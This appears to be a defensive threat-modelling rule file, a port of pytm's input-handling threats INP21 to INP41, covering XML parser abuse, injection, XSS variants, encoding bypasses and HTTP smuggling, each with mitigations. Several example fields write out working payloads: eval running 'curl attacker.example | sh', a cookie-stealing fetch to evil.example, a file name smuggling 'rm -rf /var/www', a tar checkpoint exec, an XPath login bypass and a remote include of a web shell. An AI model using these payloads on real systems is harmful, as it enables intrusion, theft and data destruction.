// Input-handling threats, part 2 (pytm INP21 to INP41): XML parser abuse,
// file, resource, code, command, argument and XML injection, the
// cross-site scripting variants, alternate encodings and HTTP smuggling.

// As in pytm, this also fires on servers that do not parse XML at all
// (usesXMLParser false); the condition is kept literally.
threat INP21 "DTD Injection" {
  targets = [Server]
  severity = Medium
  likelihood = Medium
  when = not target.usesXMLParser or not target.controls.disablesDTD
  capec = [228]
  cwe = [829]
  details = """
    A Document Type Definition tells an XML parser which elements and
    entities a document may use, and many parsers honour a DTD supplied
    inside the document itself. An attacker who can send XML to the server
    embeds a hostile DTD: entities that reference local files or internal
    URLs, or definitions that expand recursively. When the parser processes
    it, the server may read and return files it should not expose, make
    requests on the attacker's behalf, or burn memory and CPU until it stops
    answering.
    """
  prerequisites = "The server parses XML that callers supply, and its parser processes document type definitions embedded in that XML."
  mitigations = """
    Configure every XML parser the server uses to reject inline DTDs and to
    ignore external entities; most libraries have a single flag for this.
    Where DTDs are genuinely needed, accept only a fixed, locally stored
    schema and never one taken from the request. Cap entity expansion depth,
    document size and parse time so a hostile document cannot exhaust the
    host. Once DTD processing is off, set `controls.disablesDTD = true` on
    the server.
    """
  example = "An order-import endpoint accepts XML invoices; an attacker uploads one whose DTD declares an entity pointing at file:///etc/passwd and references it in the customer-name field, and the import confirmation echoes the file back."
  references = [
    "https://capec.mitre.org/data/definitions/228.html",
    "https://cwe.mitre.org/data/definitions/829.html",
  ]
}

// As in pytm, this also fires on servers that do not parse XML at all
// (usesXMLParser false); the condition is kept literally.
threat INP22 "XML Attribute Blowup" {
  targets = [Server]
  severity = High
  likelihood = High
  when = not target.usesXMLParser or not target.controls.disablesDTD
  capec = [229]
  cwe = [770]
  details = """
    Some XML parsers store the attributes of an element in a structure where
    adding each new attribute costs time proportional to the attributes
    already present, so parsing an element grows quadratically with its
    attribute count. An attacker sends a modest-sized document in which a
    single element carries tens of thousands of distinct attributes. The
    server's parser spends seconds or minutes of CPU on that one request,
    and a handful of such requests in parallel leave no capacity for
    legitimate users.
    """
  prerequisites = "The server parses XML from callers with a parser whose cost per added attribute grows with the number of attributes already on the element."
  mitigations = """
    Use a current, maintained XML parser whose attribute handling is linear,
    and keep it patched. Set hard limits on the number of attributes per
    element, the total document size and the nesting depth, and reject
    documents that exceed them before full parsing. Bound the CPU time a
    single request may consume, for example with parse timeouts. Prefer a
    simpler format such as JSON for endpoints that do not need XML.
    """
  example = "An attacker posts a 600 KB SOAP message to a legacy web service whose root element has 80,000 attributes named a1 to a80000; the parser pins a CPU core for several minutes per request."
  references = [
    "https://capec.mitre.org/data/definitions/229.html",
    "https://cwe.mitre.org/data/definitions/770.html",
  ]
}

threat INP23 "File Content Injection" {
  targets = [Process]
  severity = VeryHigh
  likelihood = High
  when = not target.controls.hasAccessControl
         and (not target.controls.sanitizesInput or not target.controls.validatesInput)
  capec = [23]
  cwe = [20]
  details = """
    The process opens and handles files that come from outside, such as
    uploads, mail attachments, documents or media. An attacker crafts a file
    that looks ordinary but is built to trigger a flaw in the code that
    parses or renders it, or plants it where it will later be executed or
    interpreted. Because the process trusts the file's content, the payload
    runs with the process's own rights and can read or change whatever the
    process can reach on the file system. Without access control limiting
    what the process may touch, a single poisoned file can become a foothold
    for further attacks on the host.
    """
  prerequisites = "The process consumes files, and an attacker can supply or modify a file that it will read."
  mitigations = """
    Check uploaded and received files against an allow-list of types, sizes
    and structures, and reject anything that does not match. Store incoming
    files outside any directory the web server can execute or serve, under
    generated names, and open them in a sandboxed, low-privilege worker.
    Run the process with only the file-system rights it needs, then set
    `controls.hasAccessControl = true`. Scan files for malware and monitor
    critical directories for unexpected changes. Set
    `controls.validatesInput` and `controls.sanitizesInput` once both checks
    are in place.
    """
  example = "A document-conversion service stores uploads in a directory the web server also serves; an attacker uploads report.php disguised as a PDF and then requests it, running arbitrary commands as the service account."
  references = [
    "https://capec.mitre.org/data/definitions/23.html",
    "https://cwe.mitre.org/data/definitions/20.html",
  ]
}

threat INP24 "Filter Failure through Buffer Overflow" {
  targets = [Process, Lambda]
  severity = High
  likelihood = High
  when = not target.controls.checksInputBounds or not target.controls.validatesInput
  capec = [24]
  cwe = [120, 680, 20]
  details = """
    Security filters, such as input sanitisers, argument scrubbers or
    logging hooks, are code too, and they can break on input they did not
    expect. An attacker sends an extremely long value so that the filter
    overruns a buffer, throws an exception or gives up. If the surrounding
    code treats that failure as "nothing to filter" rather than as a reason
    to reject the request, the raw, unfiltered input continues into the
    system. The attacker then chains this with another attack, such as SQL
    or command injection, that the filter was supposed to stop.
    """
  prerequisites = "The attacker controls the length of data that passes through a filter, and the filter or its caller does not fail closed."
  mitigations = """
    Enforce length limits on every field before it reaches any filter, and
    set `controls.checksInputBounds = true` when that is done. Make every
    filter and validator fail closed: if it errors or times out, the request
    is rejected and logged. Write filters in memory-safe languages or with
    bounds-checked functions, and build native code with stack protection.
    Validate input against its expected type and format, then set
    `controls.validatesInput = true`.
    """
  example = "A web application strips SQL metacharacters with a native helper that aborts on strings over 4 KB; the caller catches the abort and passes the original value on, so an 8 KB search term carrying a SQL payload reaches the database untouched."
  references = [
    "https://capec.mitre.org/data/definitions/24.html",
    "https://cwe.mitre.org/data/definitions/120.html",
    "https://cwe.mitre.org/data/definitions/680.html",
    "https://cwe.mitre.org/data/definitions/20.html",
  ]
}

// pytm lists CAPEC-240 twice in this threat's references; it is given once.
threat INP25 "Resource Injection" {
  targets = [Process, Lambda]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [240]
  details = """
    The code builds the identifier of a resource, such as a file path, a
    port number, a queue or table name, or a URL, from values the caller
    provides. By changing those values, an attacker makes the process open,
    overwrite or delete a different resource than the developer intended.
    Path traversal sequences, absolute paths and unexpected names are the
    usual tools. The effect ranges from reading other users' data to
    destroying the application's own configuration.
    """
  prerequisites = "The caller can influence the identifier the process uses to locate a resource, and the process has rights to act on resources other than the intended ones."
  mitigations = """
    Do not let callers name resources directly; map their input to an
    internal key or an allow-listed set of identifiers. When a path must be
    built from input, canonicalise it and confirm it stays inside the
    expected base directory. Reject names containing separators, traversal
    sequences or control characters. Run with only the rights needed for the
    intended resources. Set `controls.validatesInput` and
    `controls.sanitizesInput` once input is both checked and cleaned.
    """
  example = "A report download handler opens reports/ followed by the name query parameter; a request with name=../../config/database.yml returns the database credentials."
  references = ["https://capec.mitre.org/data/definitions/240.html"]
}

threat INP26 "Code Injection" {
  targets = [Process, Lambda]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [242]
  cwe = [94]
  details = """
    Code injection happens when data from a caller ends up being evaluated
    as program code by the running process or function, for example through
    eval, dynamic template rendering, expression languages or runtime
    compilation. The attacker sends input that is valid code in that
    language, and it executes with the full rights of the application. It
    differs from code inclusion, where the attacker changes which code file
    is loaded; here the malicious code travels inside the data itself. A
    successful attack usually means complete control of the process.
    """
  prerequisites = "The process passes caller-controlled data to something that interprets it as code, without restricting it to safe values."
  mitigations = """
    Avoid evaluating strings as code; replace eval and similar calls with
    explicit parsing or a lookup of allowed operations. If an expression or
    template language must be exposed, use a sandboxed mode with no access
    to the runtime or the file system. Validate input strictly for type,
    characters and encoding before it is used anywhere near an interpreter.
    Keep runtimes and template engines patched. Set
    `controls.validatesInput` and `controls.sanitizesInput` when both are
    enforced.
    """
  example = "A pricing service computes discounts by passing a formula field from the request to Python's eval; an attacker submits __import__('os').system('curl attacker.example | sh') as the formula."
  references = [
    "https://capec.mitre.org/data/definitions/242.html",
    "https://cwe.mitre.org/data/definitions/94.html",
  ]
}

threat INP27 "XSS Targeting HTML Attributes" {
  targets = [Process]
  severity = Medium
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [243]
  details = """
    Many XSS defences look for script tags but pay less attention to values
    placed inside HTML attributes. An attacker supplies a value that breaks
    out of an attribute or that is itself active, such as an event handler
    (onmouseover, onerror), a javascript: URL or a style expression. When
    the process renders that value into a page, the victim's browser runs
    the attacker's script in the site's origin. From there the attacker can
    read session cookies, act as the user or alter what the page shows.
    """
  prerequisites = "The process writes caller-supplied values into HTML attributes without fully neutralising quotes, event handlers and dangerous URL schemes."
  mitigations = """
    Render pages with a templating engine that encodes values for the
    attribute context automatically, and always quote attribute values.
    Never put untrusted data into event-handler, style or script-bearing
    attributes; allow-list URL schemes for href and src. Validate input
    against its expected format and strip or reject markup. Add a Content
    Security Policy that forbids inline scripts. Set
    `controls.validatesInput` and `controls.sanitizesInput` once both are in
    place.
    """
  example = "A profile page writes the user's website into an anchor's title attribute without encoding quotes; an attacker sets it to x\" onmouseover=\"fetch('//evil.example/?c='+document.cookie) and steals the cookie of anyone who hovers over the link."
  references = ["https://capec.mitre.org/data/definitions/243.html"]
}

threat INP28 "XSS Targeting URI Placeholders" {
  targets = [Server, Process]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput
         or not target.controls.sanitizesInput
         or not target.controls.encodesOutput
  capec = [244]
  cwe = [83]
  details = """
    Browsers treat some URI schemes, such as javascript: and data:, as
    executable content rather than as addresses. An attacker places such a
    URI, often with a base64-encoded HTML payload that hides the script from
    simple filters, in a link target or another attribute that accepts a
    URL. When the server or process echoes it into a page and the victim
    follows or loads it, the payload runs in the browser. Filters that only
    look for script tags in plain text miss it entirely.
    """
  prerequisites = "The page includes caller-supplied URLs in attributes, and the victim's browser runs script delivered through javascript: or data: URIs."
  mitigations = """
    Accept only http and https (and other explicitly required schemes) in
    user-supplied URLs, checking the scheme after decoding and normalising
    the value. Encode URLs for the attribute context when writing them into
    pages, and set `controls.encodesOutput = true`. Validate and sanitise
    all user content, including data that arrives in unusual encodings, and
    set `controls.validatesInput` and `controls.sanitizesInput`. A Content
    Security Policy that blocks inline script and data: sources limits the
    damage when a filter is missed.
    """
  example = "A forum lets members add a homepage link; an attacker enters data:text/html;base64,... wrapping a cookie-stealing script, and readers who click the link run it."
  references = [
    "https://capec.mitre.org/data/definitions/244.html",
    "https://cwe.mitre.org/data/definitions/83.html",
  ]
}

threat INP29 "XSS Using Doubled Characters" {
  targets = [Server, Process]
  severity = Medium
  likelihood = Medium
  when = not target.controls.validatesInput
         or not target.controls.sanitizesInput
         or not target.controls.encodesOutput
  capec = [245]
  details = """
    Pattern-based XSS filters often search for exact sequences such as
    "<script". An attacker repeats a character in front of the dangerous
    sequence, for example writing two opening angle brackets, possibly in
    URL-encoded form. The filter does not match the altered text, but the
    browser's lenient HTML parser still finds a script element in it. The
    payload then runs like any other cross-site scripting attack against
    users who view the page.
    """
  prerequisites = "The application checks for forbidden markup with patterns, without first normalising the input, and reflects the result into pages."
  mitigations = """
    Do not rely on blacklist patterns to stop XSS; encode all output for its
    HTML context so that angle brackets can never open a tag, and set
    `controls.encodesOutput = true`. Decode and normalise input fully before
    validating it, and reject values that contain markup where none is
    expected. Use a vetted HTML sanitiser where rich text is required.
    Set `controls.validatesInput` and `controls.sanitizesInput` when both
    are done.
    """
  example = "A search page removes the string <script from queries; an attacker sends %3C%3Cscript%3E... in a link, the filter leaves it alone and the results page renders a working script tag."
  references = ["https://capec.mitre.org/data/definitions/245.html"]
}

threat INP30 "XSS Using Invalid Characters" {
  targets = [Process]
  severity = Medium
  likelihood = Medium
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [247]
  cwe = [86]
  details = """
    An attacker inserts characters that are not valid in identifiers, such
    as a null byte, tab, carriage return or line feed, into the middle of a
    keyword like javascript: or a tag name. A filter that stops scanning at
    the odd character, or that compares strings literally, does not
    recognise the keyword. Later stages, and especially browsers, ignore or
    drop those characters and treat the rest as the keyword it resembles.
    The attacker thereby slips script or other prohibited content past the
    filter.
    """
  prerequisites = "The application neither removes invalid characters from input nor examines content beyond them."
  mitigations = """
    Normalise input before checking it: decode it once, then remove or
    reject null bytes and other control characters. Validate fields against
    an allow-list of characters suitable for each one. Encode output for the
    context it is written into, so that a missed keyword still cannot run.
    Set `controls.validatesInput` and `controls.sanitizesInput` once both
    are enforced.
    """
  example = "A comment filter removes the text javascript: from links, but the value java%00script:alert(document.domain) passes it and older browsers execute it when the link is clicked."
  references = [
    "https://capec.mitre.org/data/definitions/247.html",
    "https://cwe.mitre.org/data/definitions/86.html",
  ]
}

threat INP31 "Command Injection" {
  targets = [Process]
  severity = High
  likelihood = Medium
  when = not target.controls.usesParameterizedInput
         and (not target.controls.validatesInput or not target.controls.sanitizesInput)
  capec = [248]
  details = """
    The process builds a command string, for a shell, a database, a mail
    server or another downstream interpreter, by joining fixed text with
    values from its callers. An attacker supplies a value containing the
    interpreter's separators or operators, such as semicolons, pipes,
    quotes or backticks. The interpreter then sees extra commands or
    changed arguments that the developer never intended, and runs them with
    the process's privileges.
    """
  prerequisites = "The process uses caller input to construct commands by string concatenation and passes them to an interpreter."
  mitigations = """
    Call downstream components through APIs that take the command and its
    arguments separately, never through a single concatenated string, and
    set `controls.usesParameterizedInput = true` when every call does so.
    Where that is impossible, validate input against a strict allow-list and
    escape it with the interpreter's own quoting rules. Run the process with
    minimal privileges so an injected command can do little harm. Set
    `controls.validatesInput` and `controls.sanitizesInput` once both are in
    place.
    """
  example = "An image service runs convert with the uploaded file name pasted into a shell command; a file named x.png; rm -rf /var/www deletes the web root."
  references = ["https://capec.mitre.org/data/definitions/248.html"]
}

threat INP32 "XML Injection" {
  targets = [Process]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput
         or not target.controls.sanitizesInput
         or not target.controls.encodesOutput
  capec = [250]
  details = """
    The process builds XML documents or XPath and XQuery expressions from
    caller input in order to store or look up data. An attacker adds XML
    markup or query syntax to that input, much as in SQL injection, to
    change the structure of the document or the meaning of the query.
    This can expose records the caller should not see, bypass a login
    check, or insert and alter entries in the XML store. Verbose error
    messages help the attacker learn the query's shape.
    """
  prerequisites = "The process queries or builds XML with caller-supplied values that are not validated, escaped or bound as parameters."
  mitigations = """
    Use parameterised XPath or XQuery APIs, or an XML library that builds
    documents from typed values, rather than pasting input into query or
    markup text. Escape XML special characters in any value that is
    written into XML, and set `controls.encodesOutput = true`. Validate
    input against its expected format and set `controls.validatesInput` and
    `controls.sanitizesInput`. Return generic error pages that reveal
    nothing about queries or document structure.
    """
  example = "A login check runs the XPath //user[name='NAME' and pass='PASS'] with the form fields substituted in; entering ' or '1'='1 as both values returns the first user and logs the attacker in."
  references = ["https://capec.mitre.org/data/definitions/250.html"]
}

threat INP33 "Remote Code Inclusion" {
  targets = [Process]
  severity = High
  likelihood = Medium
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [253]
  details = """
    Some applications decide at run time which code file to load, based on
    a request parameter, and the runtime can fetch that file from a remote
    URL. An attacker points the parameter at a server they control, and the
    process downloads and executes the attacker's code as part of itself.
    The same trick can load an old, vulnerable version of a library. The
    result is typically full control of the application and of the data it
    can reach.
    """
  prerequisites = "The process includes code files named by caller input and its runtime permits including files from remote locations; the attacker hosts the malicious file."
  mitigations = """
    Never choose code files from request data; select modules through a
    fixed map of allowed names. Disable remote file inclusion in the runtime
    (for PHP, allow_url_include off). Validate and sanitise any input that
    influences what is loaded, and set `controls.validatesInput` and
    `controls.sanitizesInput`. Restrict outbound network access from
    application servers so they cannot fetch arbitrary URLs.
    """
  example = "A PHP site loads page content with include($_GET['page']); requesting ?page=https://attacker.example/shell.txt makes it run the attacker's web shell."
  references = ["https://capec.mitre.org/data/definitions/253.html"]
}

threat INP34 "SOAP Array Overflow" {
  targets = [Server]
  severity = High
  likelihood = Medium
  when = not target.controls.checksInputBounds
  capec = [256]
  details = """
    A SOAP message that carries an array declares its size in an attribute
    alongside the elements. A server that allocates memory from the declared
    size but then reads every element actually present can be tricked by a
    message that declares a small array and sends a much larger one. The
    extra elements are written past the end of the allocated buffer. This
    can crash the SOAP service or, in native code, let the attacker
    overwrite memory and take control of execution.
    """
  prerequisites = "The server trusts the array size stated in SOAP messages for allocation but processes all elements that are present."
  mitigations = """
    Check that the number of array elements matches the declared size and
    reject the message otherwise, or stop reading once the declared count
    has been reached. Set limits on array sizes and message length before
    deserialising. Use a maintained SOAP stack written in a memory-safe
    language. Set `controls.checksInputBounds = true` once the server
    enforces these bounds.
    """
  example = "An attacker sends a SOAP request whose soapenc:arrayType says int[2] but which contains 50,000 int elements, overflowing the two-element buffer in a legacy C++ SOAP service."
  references = ["https://capec.mitre.org/data/definitions/256.html"]
}

threat INP35 "Leverage Alternate Encoding" {
  targets = [Process]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [267]
  details = """
    The same character can be written many ways: URL percent-encoding,
    double encoding, overlong UTF-8, UTF-16, HTML entities or escape
    sequences. An attacker encodes a dangerous payload in a form the
    validation step does not decode, while a later component, such as a
    decoder, file system or browser, does decode it. The check then
    approves input that becomes harmful only after it has passed. Path
    traversal, injection and XSS filters are all bypassed this way.
    """
  prerequisites = "The process or a component behind it decodes encoded characters, and validation happens before, or without, full canonicalisation."
  mitigations = """
    Decode input to one canonical internal representation, such as UTF-8,
    exactly once and before any security check; reject input that is still
    encoded or malformed after that. Validate the canonical form against an
    allow-list of what each field may contain. Refuse overlong and invalid
    byte sequences. Test decoding and validation with encoded attack
    strings. Set `controls.validatesInput` and `controls.sanitizesInput`
    when canonicalisation and validation are both in place.
    """
  example = "A file server rejects paths containing ../ but decodes them afterwards, so a request for %252e%252e%252fetc%252fpasswd passes the check and, after double decoding, reads /etc/passwd."
  references = ["https://capec.mitre.org/data/definitions/267.html"]
}

threat INP36 "HTTP Response Smuggling" {
  targets = [Server]
  severity = Medium
  likelihood = Medium
  when = not target.controls.implementsStrictHTTPValidation and not target.controls.encodesHeaders
  capec = [273]
  details = """
    Proxies, caches and browsers do not always agree on where one HTTP
    response ends and the next begins, for example when a line ends with a
    bare CR or LF or when a header appears twice. An attacker who can get
    content into the server's response crafts it so that an intermediary
    sees two responses where the browser sees one, or the reverse. The
    smuggled response can then be stored by a cache under another URL or
    delivered to another user. Consequences include cache poisoning,
    cross-site scripting and page defacement.
    """
  prerequisites = "The attacker can place content into the server's response, typically its headers, and an intermediary parses HTTP differently from the client."
  mitigations = """
    Encode or reject carriage returns, line feeds and other control
    characters in every user-supplied value written into response headers,
    and set `controls.encodesHeaders = true`. Produce and accept only
    well-formed HTTP, with one length indication and no duplicated framing
    headers, and set `controls.implementsStrictHTTPValidation = true`. Keep
    proxies, caches and servers on versions that parse HTTP consistently,
    and prefer HTTP/2 end to end where possible.
    """
  example = "A redirect endpoint copies the next parameter into the Location header; an attacker injects a line break and a second complete response, and the company's caching proxy stores the forged page under the URL of a popular page."
  references = ["https://capec.mitre.org/data/definitions/273.html"]
}

threat INP37 "HTTP Request Smuggling" {
  targets = [Server]
  severity = High
  likelihood = Medium
  when = not target.controls.implementsStrictHTTPValidation and not target.controls.encodesHeaders
  capec = [33]
  details = """
    When a request passes through a front-end proxy, load balancer or web
    application firewall before reaching the server, both must agree on
    where each request ends. An attacker sends a request with ambiguous
    framing, typically both Content-Length and Transfer-Encoding headers or
    malformed chunking, which the two components interpret differently. The
    front end forwards what it sees as one request; the server reads part of
    it as the start of a second one. The hidden request bypasses the front
    end's security checks and can be joined to another user's request,
    enabling session hijacking, cache poisoning and XSS.
    """
  prerequisites = "An intermediary such as a proxy, cache or firewall sits in front of the server, and the two parse HTTP request framing differently."
  mitigations = """
    Configure the server to reject requests with conflicting or malformed
    framing headers, and set `controls.implementsStrictHTTPValidation = true`.
    Make the front end normalise requests and refuse ambiguous ones rather
    than forward them. Choose proxies and servers known to parse HTTP the
    same way, keep them patched, and use HTTP/2 between them where possible.
    Disable back-end connection reuse if the components cannot be aligned.
    """
  example = "An attacker sends a POST with Content-Length: 44 and Transfer-Encoding: chunked; the load balancer honours the length and the application server the chunking, so a hidden GET /admin request slips past the balancer's path rules."
  references = ["https://capec.mitre.org/data/definitions/33.html"]
}

threat INP38 "DOM-Based XSS" {
  targets = [Process]
  severity = VeryHigh
  likelihood = High
  when = target.allowsClientSideScripting
         and (not target.controls.sanitizesInput or not target.controls.validatesInput)
  capec = [588]
  details = """
    In DOM-based XSS the vulnerable code is the page's own JavaScript. It
    reads attacker-controllable data, such as the URL, its fragment, the
    referrer or postMessage data, and writes it into the document with
    sinks like innerHTML, document.write or eval. The injected script runs
    in the browser after the page has loaded, without the server ever
    embedding it in a response. When the payload sits in the URL fragment,
    it never reaches the server at all, so server-side filtering and logging
    cannot see it.
    """
  prerequisites = "The process serves pages whose client-side scripts insert data from the URL or other browser-side sources into the DOM without validating or encoding it."
  mitigations = """
    In client-side code, write untrusted data with safe APIs such as
    textContent and setAttribute instead of innerHTML, document.write or
    eval. Validate values read from the URL and other browser sources
    against what the page expects. Use a framework that escapes bindings by
    default and enable Trusted Types and a strict Content Security Policy.
    Set `controls.sanitizesInput` and `controls.validatesInput` once the
    client code does both.
    """
  example = "A single-page app shows a welcome banner by assigning location.hash to an element's innerHTML; a link ending in #<img src=x onerror=stealCookies()> runs the attacker's code for whoever opens it."
  references = ["https://capec.mitre.org/data/definitions/588.html"]
}

threat INP39 "Reflected XSS" {
  targets = [Process]
  severity = VeryHigh
  likelihood = High
  when = target.allowsClientSideScripting
         and (not target.controls.sanitizesInput or not target.controls.validatesInput)
  capec = [591]
  details = """
    In reflected XSS, the process takes a value from a request, such as a
    query parameter, form field or header, and includes it unencoded in
    the page it returns. The attacker puts a script in that value and gets a
    victim to send the request, usually by clicking a crafted link in an
    email or on another site. The server reflects the script straight back
    and the victim's browser runs it in the application's origin. Values
    inside attributes, image tags or event handlers are often the ones
    that escape filtering.
    """
  prerequisites = "The process returns pages built partly from request data, and that data is not validated or encoded before it is included."
  mitigations = """
    Encode every request-derived value for its context (HTML body,
    attribute, URL, JavaScript) when building responses, ideally through an
    auto-escaping template engine. Validate parameters and headers against
    their expected types and formats. Add a Content Security Policy that
    blocks inline scripts, and mark session cookies HttpOnly. Set
    `controls.sanitizesInput` and `controls.validatesInput` once both checks
    are in place.
    """
  example = "An error page prints the missing item's name from the URL, so an attacker emails customers a link to /notfound?item=<script src=//evil.example/k.js></script> that runs a keylogger on the shop's domain."
  references = ["https://capec.mitre.org/data/definitions/591.html"]
}

threat INP40 "Stored XSS" {
  targets = [Process]
  severity = VeryHigh
  likelihood = High
  when = target.allowsClientSideScripting
         and (not target.controls.sanitizesInput or not target.controls.validatesInput)
  capec = [592]
  details = """
    In stored XSS, the attacker submits a script as ordinary data, such as
    a comment, a profile field or a value that ends up in a log, and the
    process saves it. Later the process includes that stored data, without
    encoding it, in pages shown to other users. Every visitor who views the
    page runs the attacker's script, with no need for a crafted link.
    Administrative consoles that display user-supplied records are a
    favourite target because they expose privileged sessions.
    """
  prerequisites = "The process stores user-supplied data and later renders it in pages for other users without adequate validation or encoding."
  mitigations = """
    Encode stored data for its output context each time it is rendered,
    regardless of where it came from. Validate input before storing it, and
    clean rich text with a vetted HTML sanitiser that allows only harmless
    markup. Apply a strict Content Security Policy, especially on
    administrative pages, and keep session cookies HttpOnly. Set
    `controls.sanitizesInput` and `controls.validatesInput` when both are
    enforced.
    """
  example = "An attacker registers with a display name containing a script; when a support agent opens the user list in the admin console, the script sends the agent's session token to the attacker."
  references = ["https://capec.mitre.org/data/definitions/592.html"]
}

threat INP41 "Argument Injection" {
  targets = [Process]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [6]
  details = """
    The process passes caller-supplied values as arguments to another
    program, a shell command or an exposed method. An attacker supplies a
    value that begins with a dash or contains separators, so that it is read
    as an extra option or an additional argument rather than as plain data.
    The called program then behaves differently: it may write files in
    chosen places, load attacker-specified configuration or run commands.
    The change happens with the rights of the process that made the call.
    """
  prerequisites = "The process builds arguments for a command or service from caller input without removing content that the callee would treat as options or syntax."
  mitigations = """
    Convert input to the specific types and values the call needs, and
    reject anything else; never forward raw strings as arguments. Pass
    arguments as a list rather than through a shell, and put a "--" before
    positional values so they cannot be read as options. Run the process
    with minimal privileges, in a sandbox or container, and send audit logs
    to a separate host. Set `controls.validatesInput` and
    `controls.sanitizesInput` once both are in place.
    """
  example = "A backup endpoint passes user-chosen file names straight to tar; submitting the names --checkpoint=1 and --checkpoint-action=exec=sh x.sh makes tar run the attacker's script."
  references = ["https://capec.mitre.org/data/definitions/6.html"]
}
